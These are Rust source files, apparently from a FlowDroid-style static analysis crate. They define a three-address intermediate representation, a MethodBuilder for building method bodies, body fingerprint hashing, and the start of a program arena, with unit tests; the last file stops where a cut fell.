    match c {
        Constant::Int(i) => {
            s.u8(0);
            s.u64(*i as u64);
        }
        Constant::Str(sym) => {
            s.u8(1);
            s.str(p.str(*sym));
        }
        Constant::Null => s.u8(2),
        Constant::Class(sym) => {
            s.u8(3);
            s.str(p.str(*sym));
        }
    }
}

fn hash_rvalue(p: &Program, s: &mut Sink, r: &Rvalue) {
    match r {
        Rvalue::Read(place) => {
            s.u8(0);
            hash_place(p, s, place);
        }
        Rvalue::Const(c) => {
            s.u8(1);
            hash_const(p, s, c);
        }
        Rvalue::New(c) => {
            s.u8(2);
            s.str(p.class_name(*c));
        }
        Rvalue::NewArray(t, n) => {
            s.u8(3);
            s.str(&p.type_name(t));
            hash_operand(p, s, n);
        }
        Rvalue::BinOp(op, a, b) => {
            s.u8(4);
            s.u8(*op as u8);
            hash_operand(p, s, a);
            hash_operand(p, s, b);
        }
        Rvalue::UnOp(op, a) => {
            s.u8(5);
            s.u8(*op as u8);
            hash_operand(p, s, a);
        }
        Rvalue::Cast(t, a) => {
            s.u8(6);
            s.str(&p.type_name(t));
            hash_operand(p, s, a);
        }
        Rvalue::InstanceOf(a, t) => {
            s.u8(7);
            hash_operand(p, s, a);
            s.str(&p.type_name(t));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::builder::MethodBuilder;
    use crate::types::Type;

    fn build(order_flip: bool) -> (Program, MethodId) {
        let mut p = Program::new();
        p.declare_class("java.lang.Object", None, &[]);
        // Interleave an unrelated class to shift arena ids.
        if order_flip {
            let noise = p.declare_class("Noise", Some("java.lang.Object"), &[]);
            p.declare_field(noise, "pad", Type::Int, false);
            MethodBuilder::new_static_on(&mut p, noise, "pad", vec![], Type::Void).finish();
        }
        let c = p.declare_class("A", Some("java.lang.Object"), &[]);
        let f = p.declare_field(c, "data", Type::Int, false);
        let mut b = MethodBuilder::new_instance(&mut p, c, "run", vec![Type::Int], Type::Int);
        let this = b.this();
        let x = b.param(0);
        b.assign(Place::InstanceField(this, f), Rvalue::Read(Place::Local(x)));
        b.ret(Some(Operand::Local(x)));
        let m = b.finish();
        (p, m)
    }

    #[test]
    fn fingerprint_is_id_independent() {
        let (p1, m1) = build(false);
        let (p2, m2) = build(true);
        assert_ne!(m1, m2, "arena ids must differ for the test to mean anything");
        assert_eq!(body_fingerprint(&p1, m1), body_fingerprint(&p2, m2));
    }

    #[test]
    fn fingerprint_sees_statement_changes() {
        let (p1, m1) = build(false);
        let mut p2 = Program::new();
        p2.declare_class("java.lang.Object", None, &[]);
        let c = p2.declare_class("A", Some("java.lang.Object"), &[]);
        p2.declare_field(c, "data", Type::Int, false);
        let mut b = MethodBuilder::new_instance(&mut p2, c, "run", vec![Type::Int], Type::Int);
        let x = b.param(0);
        // Same signature, different body (no field write).
        b.ret(Some(Operand::Local(x)));
        let m2 = b.finish();
        assert_ne!(body_fingerprint(&p1, m1), body_fingerprint(&p2, m2));
    }

    #[test]
    fn fingerprint_distinguishes_overloaded_callees() {
        let mk = |param: Type| {
            let mut p = Program::new();
            p.declare_class("java.lang.Object", None, &[]);
            let c = p.declare_class("B", Some("java.lang.Object"), &[]);
            let mut b = MethodBuilder::new_static_on(&mut p, c, "go", vec![], Type::Void);
            b.call_static(None, "Lib", "f", vec![param], Type::Void, vec![
                Operand::Const(Constant::Null),
            ]);
            b.ret(None);
            let m = b.finish();
            body_fingerprint(&p, m)
        };
        assert_ne!(mk(Type::Int), mk(Type::Boolean));
    }
}
