//! Ergonomic programmatic construction of method bodies.

use crate::body::{Body, LocalDecl, StmtIdx};
use crate::class::{ClassId, MethodId, MethodRef, SubSig};
use crate::program::Program;
use crate::stmt::{CmpOp, Cond, InvokeExpr, InvokeKind, Local, Operand, Place, Rvalue, Stmt};
use crate::types::Type;

/// A forward-referencable jump target used while building a body.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub struct Label(usize);

/// Builds a method body statement by statement.
///
/// The builder declares the method (or attaches to a pre-declared one),
/// allocates parameter locals, and resolves [`Label`]s to statement
/// indices when [`MethodBuilder::finish`] is called.
///
/// # Example
///
/// ```
/// use flowdroid_ir::{Program, MethodBuilder, Type, Rvalue, Constant};
///
/// let mut p = Program::new();
/// let c = p.declare_class("Loop", None, &[]);
/// let mut b = MethodBuilder::new_static(&mut p, "count", vec![], Type::Void);
/// # let _ = &b;
/// # drop(b);
/// let mut b = MethodBuilder::new_static_on(&mut p, c, "count2", vec![], Type::Void);
/// let i = b.local("i", Type::Int);
/// b.assign_local(i, Rvalue::Const(Constant::Int(0)));
/// let top = b.mark();
/// b.if_opaque_back(top);
/// b.ret(None);
/// b.finish();
/// ```
pub struct MethodBuilder<'p> {
    program: &'p mut Program,
    method: MethodId,
    locals: Vec<LocalDecl>,
    stmts: Vec<Stmt>,
    lines: Vec<u32>,
    labels: Vec<Option<StmtIdx>>,
    cur_line: u32,
}

impl<'p> MethodBuilder<'p> {
    /// Declares a new static method on a placeholder class named
    /// `"$synthetic"` and starts building its body. Mostly useful in
    /// doctests; prefer [`MethodBuilder::new_static_on`].
    pub fn new_static(
        program: &'p mut Program,
        name: &str,
        params: Vec<Type>,
        ret: Type,
    ) -> Self {
        let class = program.class_id("$synthetic");
        Self::new_static_on(program, class, name, params, ret)
    }

    /// Declares a new static method on `class` and starts building it.
    pub fn new_static_on(
        program: &'p mut Program,
        class: ClassId,
        name: &str,
        params: Vec<Type>,
        ret: Type,
    ) -> Self {
        let method = program.declare_method(class, name, params, ret, true);
        Self::for_method(program, method)
    }

    /// Declares a new instance method on `class` and starts building it.
    /// Local 0 is `this`.
    pub fn new_instance(
        program: &'p mut Program,
        class: ClassId,
        name: &str,
        params: Vec<Type>,
        ret: Type,
    ) -> Self {
        let method = program.declare_method(class, name, params, ret, false);
        Self::for_method(program, method)
    }

    /// Starts building the body of an already-declared, body-less method.
    ///
    /// # Panics
    ///
    /// Panics if the method already has a body.
    pub fn for_method(program: &'p mut Program, method: MethodId) -> Self {
        let m = program.method(method);
        assert!(m.body().is_none(), "method already has a body");
        let mut locals = Vec::new();
        if !m.is_static() {
            locals.push(LocalDecl { name: "this".to_owned(), ty: Type::Ref(m.class()) });
        }
        for (i, ty) in m.subsig().params.iter().enumerate() {
            locals.push(LocalDecl { name: format!("p{i}"), ty: ty.clone() });
        }
        Self {
            program,
            method,
            locals,
            stmts: Vec::new(),
            lines: Vec::new(),
            labels: Vec::new(),
            cur_line: 0,
        }
    }

    /// The method being built.
    pub fn method_id(&self) -> MethodId {
        self.method
    }

    /// Access to the underlying program (for interning, class ids, …).
    pub fn program(&mut self) -> &mut Program {
        self.program
    }

    /// Sets the source line attributed to subsequently emitted statements.
    pub fn line(&mut self, line: u32) -> &mut Self {
        self.cur_line = line;
        self
    }

    /// The `this` local (instance methods only).
    ///
    /// # Panics
    ///
    /// Panics when building a static method.
    pub fn this(&self) -> Local {
        assert!(!self.program.method(self.method).is_static(), "static method has no this");
        Local(0)
    }

    /// The local holding declared parameter `i`.
    pub fn param(&self, i: usize) -> Local {
        self.program.method(self.method).param_local(i)
    }

    /// Renames an existing local (e.g. to give parameters their source
    /// names).
    ///
    /// # Panics
    ///
    /// Panics if the local is out of range.
    pub fn rename_local(&mut self, l: Local, name: &str) {
        self.locals[l.index()].name = name.to_owned();
    }

    /// Declares a fresh local variable.
    pub fn local(&mut self, name: &str, ty: Type) -> Local {
        let l = Local(u32::try_from(self.locals.len()).expect("too many locals"));
        self.locals.push(LocalDecl { name: name.to_owned(), ty });
        l
    }

    // ----- statement emission -------------------------------------------

    fn push(&mut self, s: Stmt) -> StmtIdx {
        self.stmts.push(s);
        self.lines.push(self.cur_line);
        self.stmts.len() - 1
    }

    /// Emits `lhs = rhs` for an arbitrary place.
    pub fn assign(&mut self, lhs: Place, rhs: Rvalue) -> StmtIdx {
        self.push(Stmt::Assign { lhs, rhs })
    }

    /// Emits `local = rhs`.
    pub fn assign_local(&mut self, lhs: Local, rhs: Rvalue) -> StmtIdx {
        self.assign(Place::Local(lhs), rhs)
    }

    /// Emits `lhs = new C()` *and* the constructor call `lhs.<init>()`.
    /// Returns the index of the allocation statement.
    pub fn new_object(&mut self, lhs: Local, class: &str) -> StmtIdx {
        let cid = self.program.class_id(class);
        let idx = self.assign_local(lhs, Rvalue::New(cid));
        self.call_special(None, lhs, class, "<init>", vec![], Type::Void, vec![]);
        idx
    }

    /// Emits a raw allocation without a constructor call.
    pub fn new_object_uninit(&mut self, lhs: Local, class: &str) -> StmtIdx {
        let cid = self.program.class_id(class);
        self.assign_local(lhs, Rvalue::New(cid))
    }

    /// Emits `nop`.
    pub fn nop(&mut self) -> StmtIdx {
        self.push(Stmt::Nop)
    }

    /// Emits `return` / `return value`.
    pub fn ret(&mut self, value: Option<Operand>) -> StmtIdx {
        self.push(Stmt::Return { value })
    }

    /// Emits `throw value`.
    pub fn throw(&mut self, value: Operand) -> StmtIdx {
        self.push(Stmt::Throw { value })
    }

    /// Builds an invoke expression targeting `class.name(params) -> ret`.
    #[allow(clippy::too_many_arguments)]
    pub fn invoke_expr(
        &mut self,
        kind: InvokeKind,
        base: Option<Local>,
        class: &str,
        name: &str,
        params: Vec<Type>,
        ret: Type,
        args: Vec<Operand>,
    ) -> InvokeExpr {
        assert_eq!(params.len(), args.len(), "argument count mismatch for {class}.{name}");
        let cid = self.program.class_id(class);
        let name = self.program.intern(name);
        InvokeExpr {
            kind,
            base,
            callee: MethodRef { class: cid, subsig: SubSig { name, params, ret } },
            args,
        }
    }

    /// Emits a pre-built invoke expression.
    pub fn push_invoke(&mut self, result: Option<Local>, call: InvokeExpr) -> StmtIdx {
        self.push(Stmt::Invoke { result, call })
    }

    /// Emits a virtual call.
    #[allow(clippy::too_many_arguments)]
    pub fn call_virtual(
        &mut self,
        result: Option<Local>,
        base: Local,
        class: &str,
        name: &str,
        params: Vec<Type>,
        ret: Type,
        args: Vec<Operand>,
    ) -> StmtIdx {
        let call =
            self.invoke_expr(InvokeKind::Virtual, Some(base), class, name, params, ret, args);
        self.push(Stmt::Invoke { result, call })
    }

    /// Emits an interface call.
    #[allow(clippy::too_many_arguments)]
    pub fn call_interface(
        &mut self,
        result: Option<Local>,
        base: Local,
        class: &str,
        name: &str,
        params: Vec<Type>,
        ret: Type,
        args: Vec<Operand>,
    ) -> StmtIdx {
        let call =
            self.invoke_expr(InvokeKind::Interface, Some(base), class, name, params, ret, args);
        self.push(Stmt::Invoke { result, call })
    }

    /// Emits a special (non-virtual instance) call.
    #[allow(clippy::too_many_arguments)]
    pub fn call_special(
        &mut self,
        result: Option<Local>,
        base: Local,
        class: &str,
        name: &str,
        params: Vec<Type>,
        ret: Type,
        args: Vec<Operand>,
    ) -> StmtIdx {
        let call =
            self.invoke_expr(InvokeKind::Special, Some(base), class, name, params, ret, args);
        self.push(Stmt::Invoke { result, call })
    }

    /// Emits a static call.
    pub fn call_static(
        &mut self,
        result: Option<Local>,
        class: &str,
        name: &str,
        params: Vec<Type>,
        ret: Type,
        args: Vec<Operand>,
    ) -> StmtIdx {
        let call = self.invoke_expr(InvokeKind::Static, None, class, name, params, ret, args);
        self.push(Stmt::Invoke { result, call })
    }

    // ----- control flow ---------------------------------------------------

    /// Allocates an unbound label for forward jumps.
    pub fn fresh_label(&mut self) -> Label {
        self.labels.push(None);
        Label(self.labels.len() - 1)
    }

    /// Binds `label` to the position of the next emitted statement.
    ///
    /// # Panics
    ///
    /// Panics if the label is already bound.
    pub fn bind(&mut self, label: Label) {
        assert!(self.labels[label.0].is_none(), "label bound twice");
        self.labels[label.0] = Some(self.stmts.len());
    }

    /// Allocates a label bound at the current position (for back edges).
    pub fn mark(&mut self) -> Label {
        let l = self.fresh_label();
        self.bind(l);
        l
    }

    /// Emits `if <opaque> goto label`.
    pub fn if_opaque(&mut self, label: Label) -> StmtIdx {
        self.push(Stmt::If { cond: Cond::Opaque, target: label.0 })
    }

    /// Emits `if <opaque> goto label` for a label already bound behind us
    /// (alias of [`MethodBuilder::if_opaque`], kept for call-site clarity).
    pub fn if_opaque_back(&mut self, label: Label) -> StmtIdx {
        self.if_opaque(label)
    }

    /// Emits `if a <op> b goto label`.
    pub fn if_cmp(&mut self, op: CmpOp, a: Operand, b: Operand, label: Label) -> StmtIdx {
        self.push(Stmt::If { cond: Cond::Cmp(op, a, b), target: label.0 })
    }

    /// Emits `goto label`.
    pub fn goto(&mut self, label: Label) -> StmtIdx {
        self.push(Stmt::Goto { target: label.0 })
    }

    // ----- finishing ------------------------------------------------------

    /// Resolves labels, terminates the body if needed, validates it and
    /// attaches it to the method. Returns the method id.
    ///
    /// Void methods whose last statement falls through get an implicit
    /// `return`.
    ///
    /// # Panics
    ///
    /// Panics on unbound labels, on non-void bodies that fall off the
    /// end, and on out-of-range locals.
    pub fn finish(mut self) -> MethodId {
        // Implicit return for void methods (also covers empty bodies).
        let falls_through = match self.stmts.last() {
            None => true,
            Some(Stmt::Return { .. } | Stmt::Throw { .. } | Stmt::Goto { .. }) => false,
            Some(_) => true,
        };
        if falls_through {
            let is_void = self.program.method(self.method).subsig().ret == Type::Void;
            assert!(is_void, "non-void method body falls off the end");
            self.push(Stmt::Return { value: None });
        }
        // Labels bound past the end point at the implicit return; if even
        // that is missing the label is dangling.
        let len = self.stmts.len();
        let mut resolved = Vec::with_capacity(self.labels.len());
        for (i, slot) in self.labels.iter().enumerate() {
            let idx = slot.unwrap_or_else(|| panic!("label {i} never bound"));
            assert!(idx < len, "label {i} bound past the end of the body");
            resolved.push(idx);
        }
        // Patch statements: targets currently store label ids.
        for s in &mut self.stmts {
            match s {
                Stmt::If { target, .. } | Stmt::Goto { target } => {
                    *target = resolved[*target];
                }
                _ => {}
            }
        }
        // Validate local slots.
        let nlocals = self.locals.len();
        let check = |l: Local| assert!(l.index() < nlocals, "local {l:?} out of range");
        for s in &self.stmts {
            visit_locals(s, &mut |l| check(l));
        }
        let body = Body::new(self.locals, self.stmts, self.lines);
        self.program.set_body(self.method, body);
        self.method
    }
}

fn visit_operand(o: &Operand, f: &mut dyn FnMut(Local)) {
    if let Operand::Local(l) = o {
        f(*l);
    }
}

fn visit_place(p: &Place, f: &mut dyn FnMut(Local)) {
    if let Some(b) = p.base() {
        f(b);
    }
    if let Place::ArrayElem(_, idx) = p {
        visit_operand(idx, f);
    }
}

/// Calls `f` for every local mentioned by `s`.
pub(crate) fn visit_locals(s: &Stmt, f: &mut dyn FnMut(Local)) {
    match s {
        Stmt::Assign { lhs, rhs } => {
            visit_place(lhs, f);
            for o in rhs.operands() {
                visit_operand(&o, f);
            }
        }
        Stmt::Invoke { result, call } => {
            if let Some(r) = result {
                f(*r);
            }
            if let Some(b) = call.base {
                f(b);
            }
            for a in &call.args {
                visit_operand(a, f);
            }
        }
        Stmt::If { cond: Cond::Cmp(_, a, b), .. } => {
            visit_operand(a, f);
            visit_operand(b, f);
        }
        Stmt::Return { value: Some(v) } => visit_operand(v, f),
        Stmt::Throw { value } => visit_operand(value, f),
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::stmt::Constant;

    #[test]
    fn builds_branching_body() {
        let mut p = Program::new();
        let c = p.declare_class("T", None, &[]);
        let mut b = MethodBuilder::new_static_on(&mut p, c, "f", vec![Type::Int], Type::Int);
        let x = b.param(0);
        let end = b.fresh_label();
        b.if_cmp(CmpOp::Eq, Operand::Local(x), Operand::Const(Constant::Int(0)), end);
        b.assign_local(x, Rvalue::Const(Constant::Int(1)));
        b.bind(end);
        b.ret(Some(Operand::Local(x)));
        let m = b.finish();
        let body = p.method(m).body().unwrap();
        assert_eq!(body.len(), 3);
        assert_eq!(body.cfg().succs(0), &[1, 2]);
    }

    #[test]
    fn implicit_return_for_void() {
        let mut p = Program::new();
        let c = p.declare_class("T", None, &[]);
        let mut b = MethodBuilder::new_static_on(&mut p, c, "f", vec![], Type::Void);
        b.nop();
        let m = b.finish();
        let body = p.method(m).body().unwrap();
        assert!(matches!(body.stmt(1), Stmt::Return { value: None }));
    }

    #[test]
    #[should_panic(expected = "falls off the end")]
    fn nonvoid_fallthrough_panics() {
        let mut p = Program::new();
        let c = p.declare_class("T", None, &[]);
        let b = MethodBuilder::new_static_on(&mut p, c, "f", vec![], Type::Int);
        b.finish();
    }

    #[test]
    #[should_panic(expected = "never bound")]
    fn unbound_label_panics() {
        let mut p = Program::new();
        let c = p.declare_class("T", None, &[]);
        let mut b = MethodBuilder::new_static_on(&mut p, c, "f", vec![], Type::Void);
        let l = b.fresh_label();
        b.goto(l);
        b.finish();
    }

    #[test]
    fn label_at_end_points_to_implicit_return() {
        let mut p = Program::new();
        let c = p.declare_class("T", None, &[]);
        let mut b = MethodBuilder::new_static_on(&mut p, c, "f", vec![], Type::Void);
        let l = b.fresh_label();
        b.if_opaque(l);
        b.nop();
        b.bind(l);
        let m = b.finish();
        let body = p.method(m).body().unwrap();
        // if(0) -> nop(1) -> ret(2); label bound to 2 (implicit return)
        assert_eq!(body.cfg().succs(0), &[1, 2]);
    }

    #[test]
    fn instance_method_has_this() {
        let mut p = Program::new();
        let c = p.declare_class("T", None, &[]);
        let b = MethodBuilder::new_instance(&mut p, c, "g", vec![Type::Int], Type::Void);
        assert_eq!(b.this(), Local(0));
        assert_eq!(b.param(0), Local(1));
        b.finish();
    }

    #[test]
    fn new_object_emits_ctor_call() {
        let mut p = Program::new();
        let c = p.declare_class("T", None, &[]);
        let mut b = MethodBuilder::new_static_on(&mut p, c, "f", vec![], Type::Void);
        let dty = b.program().ref_type("D");
        let d = b.local("d", dty);
        b.new_object(d, "D");
        let m = b.finish();
        let body = p.method(m).body().unwrap();
        assert!(matches!(body.stmt(0), Stmt::Assign { rhs: Rvalue::New(_), .. }));
        assert!(body.stmt(1).is_call());
    }
}
