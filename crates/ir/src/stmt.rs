//! Statements, places, operands and expressions of the three-address IR.

use crate::body::StmtIdx;
use crate::class::{FieldId, MethodRef};
use crate::symbols::Symbol;
use crate::types::Type;
use std::fmt;

/// A local variable slot inside a method body.
///
/// Parameters occupy the first slots: for instance methods slot 0 is
/// `this`, followed by the declared parameters; for static methods the
/// parameters start at slot 0.
#[derive(Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct Local(pub u32);

impl Local {
    /// Raw slot index.
    pub fn index(self) -> usize {
        self.0 as usize
    }
}

impl fmt::Debug for Local {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "%{}", self.0)
    }
}

/// A compile-time constant.
#[derive(Clone, PartialEq, Eq, Hash, Debug)]
pub enum Constant {
    /// Integer-family constant (also used for boolean/char/short/byte/long).
    Int(i64),
    /// String literal, interned in the owning program.
    Str(Symbol),
    /// The `null` reference.
    Null,
    /// A class literal (`Foo.class`), by class name symbol.
    Class(Symbol),
}

impl Constant {
    /// The `null` constant.
    pub fn null() -> Constant {
        Constant::Null
    }
}

/// A simple operand: either a local read or a constant.
#[derive(Clone, PartialEq, Eq, Hash, Debug)]
pub enum Operand {
    /// Value of a local variable.
    Local(Local),
    /// A constant.
    Const(Constant),
}

impl Operand {
    /// The local, if this operand reads one.
    pub fn as_local(&self) -> Option<Local> {
        match self {
            Operand::Local(l) => Some(*l),
            Operand::Const(_) => None,
        }
    }
}

impl From<Local> for Operand {
    fn from(l: Local) -> Self {
        Operand::Local(l)
    }
}

impl From<Constant> for Operand {
    fn from(c: Constant) -> Self {
        Operand::Const(c)
    }
}

/// A storage location that can be read from or assigned to.
#[derive(Clone, PartialEq, Eq, Hash, Debug)]
pub enum Place {
    /// A local variable.
    Local(Local),
    /// An instance field `base.field`.
    InstanceField(Local, FieldId),
    /// A static field `Class.field`.
    StaticField(FieldId),
    /// An array element `base[index]`.
    ArrayElem(Local, Operand),
}

impl Place {
    /// The base local of this place, if any (locals, instance fields and
    /// array elements have one; static fields do not).
    pub fn base(&self) -> Option<Local> {
        match self {
            Place::Local(l) | Place::InstanceField(l, _) | Place::ArrayElem(l, _) => Some(*l),
            Place::StaticField(_) => None,
        }
    }

    /// Returns `true` if this place denotes a heap location (anything but
    /// a plain local).
    pub fn is_heap(&self) -> bool {
        !matches!(self, Place::Local(_))
    }
}

/// Binary arithmetic / logic operators.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum BinOp {
    /// `+` (also string concatenation at the IR level)
    Add,
    /// `-`
    Sub,
    /// `*`
    Mul,
    /// `/`
    Div,
    /// `%`
    Rem,
    /// `&`
    And,
    /// `|`
    Or,
    /// `^`
    Xor,
    /// `<<`
    Shl,
    /// `>>`
    Shr,
    /// `cmp` (long/double comparison producing an int)
    Cmp,
}

/// Unary operators.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum UnOp {
    /// Arithmetic negation.
    Neg,
    /// Array length.
    Len,
}

/// Comparison operators usable in conditional branches.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum CmpOp {
    /// `==`
    Eq,
    /// `!=`
    Ne,
    /// `<`
    Lt,
    /// `<=`
    Le,
    /// `>`
    Gt,
    /// `>=`
    Ge,
}

/// A branch condition.
#[derive(Clone, PartialEq, Eq, Hash, Debug)]
pub enum Cond {
    /// Comparison between two operands.
    Cmp(CmpOp, Operand, Operand),
    /// An opaque predicate the analysis cannot (and must not) evaluate;
    /// both branches are always considered feasible. Used by the
    /// lifecycle dummy-main generator.
    Opaque,
}

/// The kind of a method invocation.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum InvokeKind {
    /// Virtual dispatch on the runtime type of the receiver.
    Virtual,
    /// Interface dispatch (treated like virtual for resolution).
    Interface,
    /// Non-virtual instance call: constructors, `super` calls, privates.
    Special,
    /// Static call.
    Static,
}

/// A method invocation expression.
#[derive(Clone, PartialEq, Eq, Hash, Debug)]
pub struct InvokeExpr {
    /// Dispatch kind.
    pub kind: InvokeKind,
    /// Receiver for instance calls, `None` for static calls.
    pub base: Option<Local>,
    /// Static target reference (declared class + subsignature).
    pub callee: MethodRef,
    /// Actual arguments, in declaration order.
    pub args: Vec<Operand>,
}

impl InvokeExpr {
    /// Returns `true` for instance (non-static) invokes.
    pub fn has_receiver(&self) -> bool {
        self.base.is_some()
    }
}

/// A computed right-hand side of an assignment.
#[derive(Clone, PartialEq, Eq, Hash, Debug)]
pub enum Rvalue {
    /// Read of a place: local move, field read, array read.
    Read(Place),
    /// A constant.
    Const(Constant),
    /// Allocation of a new object of the given class.
    New(crate::class::ClassId),
    /// Allocation of a new array with element type and length.
    NewArray(Type, Operand),
    /// Binary operation.
    BinOp(BinOp, Operand, Operand),
    /// Unary operation.
    UnOp(UnOp, Operand),
    /// Checked cast.
    Cast(Type, Operand),
    /// `instanceof` test producing a boolean.
    InstanceOf(Operand, Type),
}

impl Rvalue {
    /// All operands read by this rvalue (locals and constants), in order.
    pub fn operands(&self) -> Vec<Operand> {
        match self {
            Rvalue::Read(p) => {
                let mut v = Vec::new();
                if let Some(b) = p.base() {
                    v.push(Operand::Local(b));
                }
                if let Place::ArrayElem(_, idx) = p {
                    v.push(idx.clone());
                }
                v
            }
            Rvalue::Const(c) => vec![Operand::Const(c.clone())],
            Rvalue::New(_) => vec![],
            Rvalue::NewArray(_, n) => vec![n.clone()],
            Rvalue::BinOp(_, a, b) => vec![a.clone(), b.clone()],
            Rvalue::UnOp(_, a) => vec![a.clone()],
            Rvalue::Cast(_, a) => vec![a.clone()],
            Rvalue::InstanceOf(a, _) => vec![a.clone()],
        }
    }
}

/// A three-address statement.
///
/// Control flow is expressed via statement indices ([`StmtIdx`]) inside
/// the owning [`crate::Body`].
#[derive(Clone, PartialEq, Eq, Hash, Debug)]
pub enum Stmt {
    /// `place = rvalue`
    Assign {
        /// Assignment target.
        lhs: Place,
        /// Computed value.
        rhs: Rvalue,
    },
    /// A call, optionally binding the return value to a local.
    Invoke {
        /// Local receiving the return value, if bound.
        result: Option<Local>,
        /// The invocation.
        call: InvokeExpr,
    },
    /// `if cond goto target` — falls through to the next statement
    /// otherwise.
    If {
        /// Branch condition.
        cond: Cond,
        /// Taken-branch target.
        target: StmtIdx,
    },
    /// Unconditional jump.
    Goto {
        /// Jump target.
        target: StmtIdx,
    },
    /// Method return, with optional value.
    Return {
        /// Returned operand for non-void methods.
        value: Option<Operand>,
    },
    /// Throw an exception; treated as a method exit (coarse exceptional
    /// flow, matching the paper's over-approximation).
    Throw {
        /// The thrown reference.
        value: Operand,
    },
    /// No operation (also used as a label anchor).
    Nop,
}

impl Stmt {
    /// The invocation expression, for call statements.
    pub fn invoke_expr(&self) -> Option<&InvokeExpr> {
        match self {
            Stmt::Invoke { call, .. } => Some(call),
            _ => None,
        }
    }

    /// Returns `true` if this statement ends the method (return/throw).
    pub fn is_exit(&self) -> bool {
        matches!(self, Stmt::Return { .. } | Stmt::Throw { .. })
    }

    /// Returns `true` for call statements.
    pub fn is_call(&self) -> bool {
        matches!(self, Stmt::Invoke { .. })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::class::FieldId;

    #[test]
    fn place_base_and_heapness() {
        let l = Local(3);
        assert_eq!(Place::Local(l).base(), Some(l));
        assert!(!Place::Local(l).is_heap());
        let f = FieldId::from_index(0);
        assert!(Place::InstanceField(l, f).is_heap());
        assert_eq!(Place::StaticField(f).base(), None);
        assert!(Place::StaticField(f).is_heap());
        assert!(Place::ArrayElem(l, Operand::Const(Constant::Int(0))).is_heap());
    }

    #[test]
    fn rvalue_operands() {
        let l = Local(1);
        let ops = Rvalue::BinOp(BinOp::Add, Operand::Local(l), Operand::Const(Constant::Int(2)))
            .operands();
        assert_eq!(ops.len(), 2);
        assert!(Rvalue::New(crate::class::ClassId::from_index(0)).operands().is_empty());
        let arr = Rvalue::Read(Place::ArrayElem(l, Operand::Local(Local(2))));
        assert_eq!(arr.operands().len(), 2);
    }

    #[test]
    fn stmt_classification() {
        assert!(Stmt::Return { value: None }.is_exit());
        assert!(!Stmt::Nop.is_exit());
        assert!(!Stmt::Nop.is_call());
    }
}
