//! The program arena: owns all classes, methods, fields and symbols.

use crate::body::Body;
use crate::class::{Class, ClassId, Field, FieldId, Method, MethodId, MethodRef, SubSig};
use crate::symbols::{Interner, Symbol};
use crate::types::Type;
use std::collections::HashMap;

/// A whole program: the unit of analysis.
///
/// All other IR entities live inside a `Program` and are addressed by
/// copyable ids. Classes referenced before (or without) being declared
/// exist as *phantom* classes so that incremental construction and
/// linking against framework stubs always succeeds.
#[derive(Default, Debug, Clone)]
pub struct Program {
    interner: Interner,
    classes: Vec<Class>,
    class_by_name: HashMap<Symbol, ClassId>,
    methods: Vec<Method>,
    fields: Vec<Field>,
}

impl Program {
    /// Creates an empty program.
    pub fn new() -> Self {
        Self::default()
    }

    // ----- symbols ------------------------------------------------------

    /// Interns a string.
    pub fn intern(&mut self, s: &str) -> Symbol {
        self.interner.intern(s)
    }

    /// Resolves a symbol to its string.
    pub fn str(&self, sym: Symbol) -> &str {
        self.interner.resolve(sym)
    }

    /// Looks up a symbol without interning.
    pub fn lookup_symbol(&self, s: &str) -> Option<Symbol> {
        self.interner.get(s)
    }

    // ----- classes ------------------------------------------------------

    /// Returns the id for `name`, creating a phantom class if it does not
    /// exist yet.
    pub fn class_id(&mut self, name: &str) -> ClassId {
        let sym = self.interner.intern(name);
        if let Some(&id) = self.class_by_name.get(&sym) {
            return id;
        }
        let id = ClassId::from_index(self.classes.len());
        self.classes.push(Class {
            id,
            name: sym,
            superclass: None,
            interfaces: Vec::new(),
            fields: Vec::new(),
            methods: Vec::new(),
            method_by_subsig: HashMap::new(),
            field_by_name: HashMap::new(),
            is_interface: false,
            is_abstract: false,
            is_declared: false,
        });
        self.class_by_name.insert(sym, id);
        id
    }

    /// Declares (or completes a phantom) class with the given superclass
    /// and interfaces.
    ///
    /// # Panics
    ///
    /// Panics if the class was already declared.
    pub fn declare_class(
        &mut self,
        name: &str,
        superclass: Option<&str>,
        interfaces: &[&str],
    ) -> ClassId {
        let id = self.class_id(name);
        let superclass = superclass.map(|s| self.class_id(s));
        let interfaces: Vec<ClassId> = interfaces.iter().map(|s| self.class_id(s)).collect();
        let c = &mut self.classes[id.index()];
        assert!(!c.is_declared, "class {name} declared twice");
        c.superclass = superclass;
        c.interfaces = interfaces;
        c.is_declared = true;
        id
    }

    /// Declares an interface.
    ///
    /// # Panics
    ///
    /// Panics if the interface was already declared.
    pub fn declare_interface(&mut self, name: &str, extends: &[&str]) -> ClassId {
        let id = self.declare_class(name, None, extends);
        self.classes[id.index()].is_interface = true;
        id
    }

    /// Marks a class as abstract.
    pub fn set_abstract(&mut self, class: ClassId, is_abstract: bool) {
        self.classes[class.index()].is_abstract = is_abstract;
    }

    /// A class by id.
    pub fn class(&self, id: ClassId) -> &Class {
        &self.classes[id.index()]
    }

    /// Looks up a class by name without creating a phantom.
    pub fn find_class(&self, name: &str) -> Option<ClassId> {
        let sym = self.interner.get(name)?;
        self.class_by_name.get(&sym).copied()
    }

    /// The fully qualified name of a class.
    pub fn class_name(&self, id: ClassId) -> &str {
        self.str(self.classes[id.index()].name)
    }

    /// Iterates all classes (declared and phantom).
    pub fn classes(&self) -> impl Iterator<Item = &Class> {
        self.classes.iter()
    }

    /// Number of classes (including phantoms).
    pub fn class_count(&self) -> usize {
        self.classes.len()
    }

    /// A `Type::Ref` for the named class (interning it as needed).
    pub fn ref_type(&mut self, name: &str) -> Type {
        Type::Ref(self.class_id(name))
    }

    /// Walks the superclass chain starting at (and including) `class`.
    pub fn supers(&self, class: ClassId) -> Supers<'_> {
        Supers { program: self, cur: Some(class) }
    }

    /// Returns `true` if `sub` equals `sup` or transitively extends /
    /// implements it.
    pub fn is_subtype_of(&self, sub: ClassId, sup: ClassId) -> bool {
        let mut stack = vec![sub];
